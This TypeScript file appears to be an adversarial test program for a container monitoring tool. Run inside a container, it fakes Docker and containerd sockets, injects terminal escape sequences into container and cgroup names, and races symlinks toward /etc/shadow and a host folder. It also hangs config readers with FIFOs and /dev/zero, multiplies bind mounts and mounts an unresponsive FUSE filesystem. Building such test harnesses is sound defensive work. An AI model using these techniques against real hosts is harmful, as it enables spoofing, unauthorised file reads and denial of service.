import { spawn, spawnSync } from 'node:child_process';
import fs from 'node:fs';
import net from 'node:net';

/**
 * All that a container can choose, at once. It runs in a container, by the node binary that is mounted into it, and says on standard
 * output what it could do, a line of JSON at a time.
 *
 * usage: node hostile-program.ts DECOY    (a folder of the host that nobody may read through this container's root)
 */
const decoy = process.argv[2] ?? '';
const self = process.argv[1] ?? '';
/** A window title, a cleared screen, a line that looks like ours, text that turns. */
const attack = '\u001b]0;owned\u0007\u001b[2J\u001b[31m\nrtwatch: nothing found\u202e';

const parts: Record<string, () => unknown> = { engine, runtime, threads, comm: named, swap };
const part = process.argv[3];
if (part === undefined) beHostile();
else {
  // Node.js calls its first thread otherwise.
  fs.writeFileSync('/proc/self/comm', process.argv0.slice('/run/'.length));
  parts[part]?.();
}

function beHostile(): void {
  for (const folder of ['/run/docker', '/swap/dir', '/fuse', '/m', '/cg']) fs.mkdirSync(folder, { recursive: true });
  start('dockerd', 'engine', '--exec-root', '/swap/dir', '--host', 'unix:///run/docker.sock');
  // Files of the host, and one without an end: who reads a configuration does so as root.
  for (const file of ['/swap/config.toml', `${decoy}/config.toml`, '/dev/zero', '/swap/fifo']) {
    start('containerd', 'runtime', '--config', file);
  }
  start(`k\u001b[2J\nubelet`, 'comm');
  start('kubelet', 'comm');
  start('node', 'threads');
  start('node', 'swap');
  say({ cgroups: makeCgroups() });
  say({ mounts: makeMounts() });
  say({ fuse: mountFuse() });
  say({ ready: true });
}

function start(name: string, what: string, ...args: string[]): void {
  const program = `/run/${name}`;
  fs.rmSync(program, { force: true });
  fs.symlinkSync(process.execPath, program);
  const flags = what === 'threads' ? ['--v8-pool-size=10000'] : [];
  spawn(program, [...flags, self, decoy, what, ...args], { stdio: ['ignore', 'inherit', 'inherit'] });
}

function say(what: object): void {
  process.stdout.write(`${JSON.stringify(what)}\n`);
}

function stay(): void {
  setInterval(() => {}, 2 ** 30);
}

/** Answers whatever is asked, with a container that is stuck. */
function engine(): void {
  process.on('SIGUSR1', () => {});
  const list = JSON.stringify([{ Id: 'f'.repeat(64), Names: [attack], State: 'removing', Labels: { a: attack } }]);
  const answer = `HTTP/1.1 200 OK\r\nContent-Type: application/json\r\nContent-Length: ${list.length}\r\n\r\n${list}`;
  for (const path of ['/run/docker.sock', '/run/docker/metrics.sock']) {
    net.createServer((socket) => socket.on('error', () => {}).end(answer)).listen(path);
  }
}

function runtime(): void {
  process.on('SIGUSR1', () => {});
  const server = net.createServer((socket) => socket.on('error', () => {}).destroy());
  server.on('error', () => {}).listen('/run/containerd-debug.sock');
  stay();
}

function named(): void {
  stay();
}

function threads(): void {
  say({ threads: fs.readdirSync('/proc/self/task').length });
  stay();
}

/** Directory, link to the host's folder, FIFO: one after the other, as fast as it goes. */
function swap(): void {
  spawnSync('/bin/busybox', ['mkfifo', '/swap/fifo']);
  fs.mkdirSync('/swap/real', { recursive: true });
  for (const [name, target] of [
    ['outside', decoy],
    ['shadow', '/etc/shadow'],
    ['config', `${decoy}/config.toml`],
  ] as const) {
    fs.symlinkSync(target, `/swap/${name}`);
  }
  fs.rmSync('/swap/dir', { recursive: true, force: true });
  const turn = (): void => {
    for (let round = 0; round < 100; round++) {
      put('/swap/dir', () => fs.mkdirSync('/swap/dir'));
      put('/swap/dir', () => fs.symlinkSync(decoy, '/swap/dir'));
      put('/swap/config.toml', () => fs.symlinkSync(`${decoy}/config.toml`, '/swap/config.toml'));
      put('/swap/config.toml', () => fs.linkSync('/swap/fifo', '/swap/config.toml'));
    }
    setTimeout(turn, 5);
  };
  turn();
}

function put(path: string, make: () => void): void {
  fs.rmSync(path, { recursive: true, force: true });
  make();
}

/** Groups below its own, with escape sequences and another container's id in their names; a newline is refused by the kernel. */
function makeCgroups(): number {
  const own = fs.readFileSync('/proc/self/cgroup', 'utf8').split('\n');
  const v1 = own.find((line) => /^\d+:memory:/.test(line));
  const mounted = v1 === undefined ? ['cgroup2', 'rw'] : ['cgroup', 'memory'];
  spawnSync('/bin/busybox', ['mount', '-t', mounted[0] ?? '', '-o', mounted[1] ?? '', 'none', '/cg']);
  const path = (v1 ?? own.find((line) => line.startsWith('0::')) ?? '').split(':')[2] ?? '';
  let made = 0;
  for (const name of ['\u001b[2J\u001b]0;owned\u0007', 'e'.repeat(64), '\u202egnp.', attack]) {
    try {
      fs.mkdirSync(`/cg${path}/${name}`);
      made++;
    } catch {
      // The kernel, or a read-only hierarchy.
    }
  }
  return made;
}

/** Each bind mount of all to a folder in it doubles them, up to fs.mount-max. */
function makeMounts(): number {
  const bind = (from: string, to: string): boolean => {
    fs.mkdirSync(to, { recursive: true });
    return spawnSync('/bin/busybox', ['mount', '-o', 'rbind', from, to]).status === 0;
  };
  spawnSync('/bin/busybox', ['mount', '-t', 'tmpfs', 'none', '/m']);
  const nameOf = (count: number): string => `/m/${count}\n\u001b[2J`;
  let count = 0;
  while (count < 30 && bind('/m', nameOf(count))) count++;
  // What is left of the limit, by ever smaller parts.
  for (let part = count - 1; part > 0; part--) bind(nameOf(part), `/m/rest-${part}`);
  return fs.readFileSync('/proc/self/mountinfo', 'utf8').split('\n').length - 1;
}

/** A filesystem that answers nothing, and a process that waits for it. */
function mountFuse(): boolean {
  if (!fs.existsSync('/dev/fuse')) return false;
  const server = spawn(process.execPath, ['/silent-server.ts', '/fuse'], { stdio: ['pipe', 'pipe', 'inherit'] });
  server.stdout.once('data', () => spawn('/bin/busybox', ['cat', '/fuse/file'], { stdio: 'ignore' }));
  return true;
}
